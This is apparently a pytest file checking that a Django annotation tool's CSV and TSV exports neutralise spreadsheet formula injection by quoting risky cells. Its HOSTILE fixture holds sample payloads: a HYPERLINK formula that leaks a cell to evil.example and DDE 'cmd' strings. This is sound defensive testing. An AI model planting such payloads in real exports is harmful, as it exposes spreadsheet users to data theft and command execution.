"""CSV and Wiki-Manual TSV exports are safe to open in a spreadsheet: text a spreadsheet would run as a formula is neutralised.

OWASP's advice for CSV: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
leading single quote. JSONL and Parquet are read by programs, not spreadsheets, and keep every text exactly.
"""

from __future__ import annotations

import csv
import json

import pyarrow.parquet as pq
import pytest
from django.test import override_settings

from alignment.models import Document, Sentence
from annotation.export import service as export
from annotation.export.writers import csv_cell
from tests.annotation.gold_set import build_gold_project

SPLITS = ("train", "dev", "test")
HOSTILE = {
    0: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    1: "+cmd|' /C calc'!A0",
    2: "-2+3 degrees and falling",
    3: "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def exported(owner, tmp_path, monkeypatch):
    monkeypatch.setattr("alignment.jobs.enqueue.defer", lambda *args, **kwargs: None)  # the job runs in-process below
    project, _ = build_gold_project(owner)
    simple_ids = Document.objects.filter(pairs_as_simple__corpus=project.corpus).values_list("pk", flat=True)
    for sentence in Sentence.objects.filter(document_id__in=simple_ids):
        if sentence.index in HOSTILE:
            Sentence.objects.filter(pk=sentence.pk).update(text=HOSTILE[sentence.index])
    Document.objects.filter(pk__in=simple_ids).update(level="=1+1")  # a level name is text from the user too
    with override_settings(EXPORT_DIR=tmp_path / "exports"):
        yield export.export_job_execute(
            job_id=export.export_job_create(project=project, created_by=owner, formats="csv,tsv,jsonl,parquet").pk
        )


def _cells(rows: list[dict]) -> list[str]:
    return [value for row in rows for value in row.values() if isinstance(value, str)]


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(exported) -> None:
    rows = [row for split in SPLITS for row in csv.DictReader((exported.directory / f"csv/{split}.csv").open(encoding="utf-8"))]
    simple = {row["simple_sentence"] for row in rows}
    assert {"'" + text for text in HOSTILE.values()} <= simple
    assert {row["simple_level"] for row in rows} == {"'=1+1"}
    assert not [cell for cell in _cells(rows) if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_tsv_sentences_that_a_spreadsheet_would_run_start_with_a_quote(exported) -> None:
    rows = [line.split("\t") for split in SPLITS for line in (exported.directory / f"wiki-manual/{split}.tsv").read_text().splitlines()]
    assert rows and all(len(row) == 5 for row in rows)
    assert {"'" + text for text in HOSTILE.values()} <= {row[3] for row in rows}
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
    card = (exported.directory / "README.md").read_text(encoding="utf-8")
    assert "As in the CSV, a sentence that starts with `=`" in card


def test_jsonl_and_parquet_keep_the_texts_exactly(exported) -> None:
    lines = [json.loads(line) for split in SPLITS for line in (exported.directory / f"jsonl/{split}.jsonl").read_text().splitlines()]
    table = [row for split in SPLITS for row in pq.read_table(exported.directory / f"parquet/{split}.parquet").to_pylist()]
    for rows in (lines, table):
        assert set(HOSTILE.values()) <= {row["simple_sentence"] for row in rows}
        assert {row["simple_level"] for row in rows} == {"=1+1"}


def test_the_dataset_card_says_how_csv_cells_are_neutralised(exported) -> None:
    card = (exported.directory / "README.md").read_text(encoding="utf-8")
    assert "formula injection" in card and "keep every text exactly" in card


@pytest.mark.parametrize(
    ("value", "safe"),
    [("=1+1", "'=1+1"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""), (-3, -3), (None, None), ("'quoted", "'quoted")],
)
def test_csv_cell(value, safe) -> None:
    assert csv_cell(value) == safe
